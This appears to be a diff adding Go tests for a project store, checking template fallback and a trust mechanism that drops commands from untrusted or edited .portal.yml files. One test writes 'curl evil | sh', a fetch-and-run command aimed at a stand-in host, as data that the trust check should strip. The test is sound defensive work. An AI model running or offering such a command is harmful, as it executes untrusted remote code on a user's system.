@@ -0,0 +1,153 @@
+package project_test
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/leeovery/portal/internal/layout"
+	"github.com/leeovery/portal/internal/project"
+)
+
+func TestStoreTemplate(t *testing.T) {
+	repoFile := "windows:\n  - name: from-repo\n"
+	stored := &layout.Template{Windows: []layout.Window{{Name: "from-projects-json"}}}
+
+	setup := func(t *testing.T, withRepoFile bool) (*project.Store, string) {
+		t.Helper()
+		dir := t.TempDir()
+		if withRepoFile {
+			if err := os.WriteFile(filepath.Join(dir, ".portal.yml"), []byte(repoFile), 0o644); err != nil {
+				t.Fatal(err)
+			}
+		}
+		store := project.NewStore(filepath.Join(t.TempDir(), "projects.json"))
+		if err := store.Upsert(dir, "app", "internal"); err != nil {
+			t.Fatalf("unexpected error on upsert: %v", err)
+		}
+		return store, dir
+	}
+
+	t.Run("it falls back to the repo's .portal.yml", func(t *testing.T) {
+		store, dir := setup(t, true)
+
+		got, err := store.Template(dir)
+
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if got == nil || got.Windows[0].Name != "from-repo" {
+			t.Errorf("Template = %+v, want the .portal.yml template", got)
+		}
+	})
+
+	t.Run("a projects.json template wins over .portal.yml and can be cleared", func(t *testing.T) {
+		store, dir := setup(t, true)
+		if err := store.SetTemplate(dir, stored); err != nil {
+			t.Fatalf("unexpected error on SetTemplate: %v", err)
+		}
+
+		got, err := store.Template(dir)
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if got == nil || got.Windows[0].Name != "from-projects-json" {
+			t.Errorf("Template = %+v, want the projects.json template", got)
+		}
+
+		if err := store.SetTemplate(dir, nil); err != nil {
+			t.Fatalf("unexpected error clearing: %v", err)
+		}
+		got, _ = store.Template(dir)
+		if got == nil || got.Windows[0].Name != "from-repo" {
+			t.Errorf("Template after clearing = %+v, want the .portal.yml template", got)
+		}
+	})
+
+	t.Run("it returns nil when neither exists", func(t *testing.T) {
+		store, dir := setup(t, false)
+
+		got, err := store.Template(dir)
+
+		if err != nil || got != nil {
+			t.Errorf("Template = %+v, %v; want nil, nil", got, err)
+		}
+	})
+
+	t.Run("SetTemplate returns ErrProjectNotFound for an unknown path", func(t *testing.T) {
+		store, _ := setup(t, false)
+
+		err := store.SetTemplate("/code/missing", stored)
+
+		if !errors.Is(err, project.ErrProjectNotFound) {
+			t.Errorf("err = %v, want ErrProjectNotFound", err)
+		}
+	})
+}
+
+func TestStoreTemplateTrust(t *testing.T) {
+	setup := func(t *testing.T) (*project.Store, string) {
+		t.Helper()
+		dir := t.TempDir()
+		writeRepoTemplate(t, dir, "windows:\n  - panes:\n      - command: make dev\n")
+		store := project.NewStore(filepath.Join(t.TempDir(), "projects.json"))
+		if err := store.Upsert(dir, "app", "internal"); err != nil {
+			t.Fatalf("unexpected error on upsert: %v", err)
+		}
+		return store, dir
+	}
+	firstCommand := func(t *testing.T, store *project.Store, dir string) string {
+		t.Helper()
+		got, err := store.Template(dir)
+		if err != nil || got == nil {
+			t.Fatalf("Template = %+v, %v; want the .portal.yml template", got, err)
+		}
+		return got.Windows[0].Panes[0].Command
+	}
+
+	t.Run("an untrusted .portal.yml keeps its layout but drops its commands", func(t *testing.T) {
+		store, dir := setup(t)
+
+		if cmd := firstCommand(t, store, dir); cmd != "" {
+			t.Errorf("command = %q, want none from an untrusted file", cmd)
+		}
+	})
+
+	t.Run("a trusted .portal.yml runs its commands until it changes", func(t *testing.T) {
+		store, dir := setup(t)
+		if err := store.TrustTemplate(dir); err != nil {
+			t.Fatalf("unexpected error on TrustTemplate: %v", err)
+		}
+
+		if cmd := firstCommand(t, store, dir); cmd != "make dev" {
+			t.Errorf("command = %q, want the trusted file's make dev", cmd)
+		}
+
+		writeRepoTemplate(t, dir, "windows:\n  - panes:\n      - command: curl evil | sh\n")
+		if cmd := firstCommand(t, store, dir); cmd != "" {
+			t.Errorf("command = %q, want none once the trusted file was edited", cmd)
+		}
+	})
+
+	t.Run("TrustTemplate rejects an unknown project and a missing file", func(t *testing.T) {
+		store, dir := setup(t)
+
+		if err := store.TrustTemplate("/code/missing"); !errors.Is(err, project.ErrProjectNotFound) {
+			t.Errorf("err = %v, want ErrProjectNotFound", err)
+		}
+		if err := os.Remove(filepath.Join(dir, ".portal.yml")); err != nil {
+			t.Fatal(err)
+		}
+		if err := store.TrustTemplate(dir); err == nil {
+			t.Error("TrustTemplate succeeded for a directory with no template")
+		}
+	})
+}
+
+func writeRepoTemplate(t *testing.T, dir, content string) {
+	t.Helper()
+	if err := os.WriteFile(filepath.Join(dir, ".portal.yml"), []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}